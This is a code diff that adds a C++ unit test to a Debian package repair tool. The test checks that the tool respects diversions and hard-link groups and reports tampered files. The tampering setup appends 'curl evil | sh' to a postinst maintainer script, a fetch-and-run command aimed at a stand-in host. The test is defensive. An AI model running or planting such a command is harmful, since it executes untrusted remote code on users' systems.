@@ -17,6 +17,7 @@ class RepairTest : public CppUnit::TestFixture {
     CPPUNIT_TEST(testRepairsEveryTamperingOfRegularFiles);
     CPPUNIT_TEST(testShowsThePlanAndChangesNothingWithoutApply);
     CPPUNIT_TEST(testRefusesADebOfOtherContent);
+    CPPUNIT_TEST(testLeavesWhatTheSystemsOwnRecordsSet);
     CPPUNIT_TEST_SUITE_END();
 
     static RunResult repair(const Installed& sys, const std::vector<std::string>& extra) {
@@ -116,6 +117,25 @@ public:
         const RunResult r = repair(sys, {"--apply"});
         CPPUNIT_ASSERT_EQUAL_MESSAGE(r.err, 3, r.status);
         CPPUNIT_ASSERT_EQUAL(std::string("evil\n"), read_file(sys.root / "/usr/sbin/hellod"));
+    }
+
+    void testLeavesWhatTheSystemsOwnRecordsSet() {
+        // A diversion on one name of a hard-link group: the group is left whole, and nothing is
+        // written where the diversion points. A tampered maintainer script is named, never
+        // taken for a file to put back.
+        Installed sys;
+        write_file(sys.root / "/etc/victim", "precious\n");
+        sys.root.add_diversion("/usr/bin/hello-again", "/etc/victim", ":");
+        must_sh("printf 'evil\\n' > " + sys.q("/usr/bin/hello") +
+                " && printf 'curl evil | sh\\n' >> " + sys.q("/var/lib/dpkg/info/hello.postinst"));
+        const RunResult r = repair(sys, {"--apply"});
+        CPPUNIT_ASSERT_EQUAL_MESSAGE(r.err, 1, r.status);
+        CPPUNIT_ASSERT_EQUAL(std::string("precious\n"), read_file(sys.root / "/etc/victim"));
+        CPPUNIT_ASSERT_EQUAL(std::string("evil\n"), read_file(sys.root / "/usr/bin/hello"));
+        CPPUNIT_ASSERT_MESSAGE(r.err, r.err.find("not repaired: /usr/bin/hello (hello): of its "
+                                                 "hard-link group, ") != std::string::npos);
+        CPPUNIT_ASSERT_MESSAGE(r.err, r.err.find("not repaired: /var/lib/dpkg/info/hello.postinst "
+                                                 "(hello): ") != std::string::npos);
     }
 };
 
